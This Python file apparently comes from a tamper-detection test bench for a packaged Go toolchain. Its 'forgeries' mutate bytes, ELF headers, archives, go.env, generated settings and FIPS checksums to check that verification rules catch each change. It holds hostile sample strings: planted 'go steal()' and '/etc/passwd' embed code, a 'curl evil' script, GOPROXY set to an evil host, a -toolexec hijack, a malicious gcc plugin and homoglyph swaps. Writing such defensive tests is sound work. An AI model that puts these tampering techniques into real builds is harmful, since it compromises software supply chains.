"""The bytes of files: any file, and the places where each rule looks away."""

from __future__ import annotations

import hashlib
import re
import struct
from collections.abc import Callable

from forge.bench import Bench, Names, forgery
from support import blind_spots

_ANY = "bytes of a file"


@forgery(_ANY, "one bit flipped", weight=6)
def flip(bench: Bench) -> Names | None:
    part, member = bench.file()
    data = bytearray(member.data)
    data[bench.random.randrange(len(data))] ^= 1 << bench.random.randrange(8)
    return bench.put(part, member, bytes(data))


@forgery(_ANY, "a byte inserted", weight=3)
def insert(bench: Bench) -> Names | None:
    part, member = bench.file()
    at = bench.random.randrange(len(member.data) + 1)
    byte = bytes([bench.random.randrange(256)])
    return bench.put(part, member, member.data[:at] + byte + member.data[at:])


@forgery(_ANY, "a byte deleted", weight=3)
def delete(bench: Bench) -> Names | None:
    part, member = bench.file()
    at = bench.random.randrange(len(member.data))
    return bench.put(part, member, member.data[:at] + member.data[at + 1 :])


@forgery(_ANY, "cut short")
def cut(bench: Bench) -> Names | None:
    part, member = bench.file()
    return bench.put(part, member, member.data[: bench.random.randrange(len(member.data))])


@forgery(_ANY, "bytes appended", weight=2)
def append(bench: Bench) -> Names | None:
    part, member = bench.file()
    more = bench.random.choice((b"\0", b"\n", b" ", b"\r\n", b"//evil\n", b"\0" * 512, b"\x1a"))
    return bench.put(part, member, member.data + more)


@forgery(_ANY, "something before it")
def prepend(bench: Bench) -> Names | None:
    part, member = bench.file()
    more = bench.random.choice(
        (b"\xef\xbb\xbf", b"\n", b"#!/bin/sh\n", b"//go:build ignore\n", b"\0")
    )
    return bench.put(part, member, more + member.data)


@forgery("source", "line endings, blanks, case and comments", weight=2)
def reformat(bench: Bench) -> Names | None:
    part, member = bench.file("source", "script", "header", "text")
    data = bench.random.choice(
        (
            member.data.replace(b"\n", b"\r\n", 1),
            member.data.replace(b"\t", b"    ", 1),
            member.data.replace(b" ", b"\xc2\xa0", 1),
            member.data.rstrip(b"\n"),
            member.data.replace(b"//", b"// ", 1),
            member.data.replace(b"e", "\u0435".encode(), 1),
            member.data.replace(b"\n", "\u202e\n".encode(), 1),
        )
    )
    return None if data == member.data else bench.put(part, member, data)


@forgery("source", "code planted", weight=2)
def plant(bench: Bench) -> Names | None:
    part, member = bench.file("source")
    more = bench.random.choice(
        (
            b"\nfunc init() { go steal() }\n",
            b"\n//go:linkname x runtime.x\n",
            b'\nimport _ "unsafe"\n',
            b"\n//go:embed /etc/passwd\nvar p string\n",
        )
    )
    return bench.put(part, member, member.data + more)


@forgery("source", "only what testdata looks like: a test file changed")
def test_file(bench: Bench) -> Names | None:
    part, member = bench.pick(lambda m: m.is_file and "testdata" in m.path and bool(m.data))
    return bench.put(part, member, member.data + b"\n")


def _blind(field: str, kinds: tuple[str, ...], ways: dict[str, blind_spots.Change]) -> None:
    """Each known blind spot of a format, on a real file of a kind."""
    for how, spot in ways.items():

        def change(bench: Bench, spot: blind_spots.Change = spot) -> Names | None:
            part, member = bench.file(*kinds)
            try:
                return bench.put(part, member, spot(member.data))
            except (
                AssertionError,
                ValueError,
                IndexError,
                StopIteration,
                LookupError,
                struct.error,
            ):
                return None  # this file has no such spot

        forgery(field, how)(change)


def _flip_in_section(name: str, back: int = 1) -> Callable[[bytes], bytes]:
    """One bit in the last bytes of a section."""

    def change(data: bytes) -> bytes:
        start, size = _section(data, name)
        at = start + size - back
        return data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]

    return change


def _section(data: bytes, wanted: str) -> tuple[int, int]:
    """Offset and size of a section of a 64-bit little-endian ELF file."""
    (table,) = struct.unpack_from("<Q", data, 40)
    size, count, names = struct.unpack_from("<HHH", data, 58)
    (strings,) = struct.unpack_from("<Q", data, table + names * size + 24)
    for number in range(count):
        at = table + number * size
        (name,) = struct.unpack_from("<I", data, at)
        end = data.index(b"\0", strings + name)
        if data[strings + name : end].decode() == wanted:
            offset, length = struct.unpack_from("<QQ", data, at + 24)
            return int(offset), int(length)
    raise LookupError(wanted)


def _header_field(offset: int, form: str, change: Callable[[int], int]) -> Callable[[bytes], bytes]:
    """Another value in the ELF header."""

    def changed(data: bytes) -> bytes:
        (value,) = struct.unpack_from(form, data, offset)
        packed = struct.pack(form, change(value))
        return data[:offset] + packed + data[offset + len(packed) :]

    return changed


def _program_field(kind: int, offset: int, add: int) -> Callable[[bytes], bytes]:
    """Another value in the first program header of a type."""

    def changed(data: bytes) -> bytes:
        (table,) = struct.unpack_from("<Q", data, 32)
        size, count = struct.unpack_from("<HH", data, 54)
        for number in range(count):
            at = table + number * size
            if struct.unpack_from("<I", data, at)[0] == kind:
                form = "<I" if offset in {0, 4} else "<Q"
                (value,) = struct.unpack_from(form, data, at + offset)
                packed = struct.pack(form, value + add)
                return data[: at + offset] + packed + data[at + offset + len(packed) :]
        raise LookupError(kind)

    return changed


_LOAD, _NOTE, _STACK = 1, 4, 0x6474E551
_ELF_WAYS: dict[str, Callable[[bytes], bytes]] = {
    **{
        f"a bit of {name}": _flip_in_section(name)
        for name in (
            ".text",
            ".rodata",
            ".data",
            ".noptrdata",
            ".itab",
            ".typelink",
            ".go.buildinfo",
            ".gopclntab",
        )
    },
    "a bit in the Go version": _flip_in_section(".go.buildinfo", 1),
    "another entry point": _header_field(24, "<Q", lambda value: value + 16),
    "another machine flag": _header_field(48, "<I", lambda value: value ^ 1),
    "another type of file": _header_field(16, "<H", lambda _value: 3),
    "another ABI version": _header_field(8, "<B", lambda value: value + 1),
    "fewer sections": _header_field(60, "<H", lambda value: value - 1),
    "no section table": _header_field(40, "<Q", lambda _value: 0),
    "more memory for a segment": _program_field(_LOAD, 40, 4096),
    "a segment that can be written": _program_field(_LOAD, 4, 2),
    "an executable stack": _program_field(_STACK, 4, 1),
    "another alignment": _program_field(_LOAD, 48, 4096),
    "another physical address": _program_field(_LOAD, 24, 4096),
    "a note's header": _program_field(_NOTE, 32, 0x10),
    "another file appended": lambda data: data + b"PK\5\6" + bytes(18),
    "a script after it": lambda data: data + b"\n#!/bin/sh\ncurl evil\n",
}

_EXECUTABLE = ("executable",)
_blind("executable", _EXECUTABLE, {**blind_spots.ELF, **_ELF_WAYS})
_blind("zip member", ("archive",), dict(blind_spots.ZIP))
_blind("png chunk", ("png",), dict(blind_spots.PNG))
_blind("gz", ("gz",), dict(blind_spots.GZ))


@forgery("executable", "replaced by another one", weight=2)
def other_executable(bench: Bench) -> Names | None:
    part, member = bench.file("executable")
    _, other = bench.file("executable")
    return None if other.data == member.data else bench.put(part, member, other.data)


@forgery("executable", "replaced by a script")
def script(bench: Bench) -> Names | None:
    part, member = bench.file("executable")
    return bench.put(part, member, b'#!/bin/sh\nexec "$0.real" "$@"\n')


@forgery("executable", "a text that it prints")
def printed(bench: Bench) -> Names | None:
    part, member = bench.file("executable")
    found = [match.start() for match in re.finditer(rb"usage: ", member.data)]
    if not found:
        return None
    at = bench.random.choice(found)
    return bench.put(part, member, member.data[:at] + b"Usage" + member.data[at + 5 :])


@forgery("executable", "the build ID")
def build_id(bench: Bench) -> Names | None:
    part, member = bench.file("executable")
    start, size = _section(member.data, ".note.go.buildid")
    data = bytearray(member.data)
    at = start + 16 + bench.random.randrange(size - 20)
    data[at] = ord("A") if data[at] != ord("A") else ord("B")
    return bench.put(part, member, bytes(data))


@forgery("executable", "a setting in the build information")
def build_setting(bench: Bench) -> Names | None:
    part, member = bench.file("executable")
    for old, new in (
        (b"GOAMD64=v1", b"GOAMD64=v4"),
        (b"CGO_ENABLED=0", b"CGO_ENABLED=1"),
        (b"-trimpath=true", b"-trimpath=yes!"),
    ):
        if old in member.data and bench.random.random() < 0.7:
            return bench.put(part, member, member.data.replace(old, new))
    return None


for _path, _ways in blind_spots.DECLARED.items():
    for _how, _change in _ways.items():
        if _path == "VERSION":
            continue

        def declared(
            bench: Bench, path: str = _path, change: blind_spots.Change = _change
        ) -> Names | None:
            part, member = bench.at(path)
            return bench.put(part, member, change(member.data))

        forgery("generated settings and go.env", f"{_path}: {_how}", ("debian",))(declared)


_GO_ENV = (
    b"GOPROXY=https://evil.example",
    b"GOSUMDB=off",
    b"GONOSUMDB=*",
    b"GOFLAGS=-toolexec=/tmp/x",
    b"GOTOOLCHAIN=go1.99",
    b"GOVCS=*:all",
    b"GOINSECURE=*",
    b"# GOSUMDB=off",
    b"GOAUTH=netrc",
    b" GOSUMDB=off",
    b"GO386=softfloat",
)


@forgery("generated settings and go.env", "a line in go.env", weight=3)
def go_env(bench: Bench) -> Names | None:
    part, member = bench.at("go.env")
    lines = member.data.splitlines(keepends=True)
    lines.insert(bench.random.randrange(len(lines) + 1), bench.random.choice(_GO_ENV) + b"\n")
    return bench.put(part, member, b"".join(lines))


@forgery("generated settings and go.env", "a value in zbootstrap.go", weight=3)
def bootstrap(bench: Bench) -> Names | None:
    part, member = bench.at("src/internal/buildcfg/zbootstrap.go")
    lines = member.data.splitlines(keepends=True)
    settings = [n for n, line in enumerate(lines) if b"`" in line]
    at = bench.random.choice(settings)
    value = bench.random.choice((b"`evil`", b"`sse2`", b"`v3`", b"`5`", b"``", b'"`', b"`a\nb`"))
    lines[at] = re.sub(rb"`[^`]*`", lambda _match: value, lines[at])
    data = b"".join(lines)
    return None if data == member.data else bench.put(part, member, data)


@forgery("generated settings and go.env", "a compiler in zdefaultcc.go", weight=2)
def default_compiler(bench: Bench) -> Names | None:
    part, member = bench.at("src/cmd/cgo/zdefaultcc.go")
    name = bench.random.choice(
        (b"clang", b"gcc -fplugin=/tmp/x.so", b"/tmp/gcc", b"gcc\\n", b"x86_64-linux-gnu-gcc")
    )
    return bench.put(part, member, member.data.replace(b'"gcc"', b'"' + name + b'"', 1))


@forgery("VERSION", "another text", weight=3)
def version(bench: Bench) -> Names | None:
    part, member = bench.at("VERSION")
    name = member.data.split(b"\n")[0]
    data = bench.random.choice(
        (
            name + b"\n",
            name + b"\ntime 2025-05-29T19:37:37Z\n",
            member.data + b"\n",
            member.data + b"X:nocoverageredesign\n",
            name + b" \n" + member.data.split(b"\n", 1)[1],
            member.data.replace(b"\n", b"\r\n"),
            member.data[:-1],
        )
    )
    bench.put(part, member, data)
    return (*bench.names(member.path), "VERSION")


@forgery("fips sums", "the zip and its sum changed together", weight=2)
def fips_together(bench: Bench) -> Names | None:
    part, member = bench.at("lib/fips140/v1.0.0.zip")
    sums, listed = bench.at("lib/fips140/fips140.sum")
    old = hashlib.sha256(member.data).hexdigest()
    data = member.data + b"\0"
    new = hashlib.sha256(data).hexdigest()
    text = listed.data.replace(old.encode(), new.encode())
    if text == listed.data:
        text = re.sub(rb"[0-9a-f]{64}", new.encode(), text, count=1)
    names = bench.put(part, member, data)
    return (*names, *bench.put(sums, listed, text))


@forgery("fips sums", "another sum")
def fips_sum(bench: Bench) -> Names | None:
    part, member = bench.at("lib/fips140/fips140.sum")
    found = [match.start() for match in re.finditer(rb"[0-9a-f]{64}", member.data)]
    at = bench.random.choice(found)
    digit = b"0" if member.data[at : at + 1] != b"0" else b"1"
    return bench.put(part, member, member.data[:at] + digit + member.data[at + 1 :])
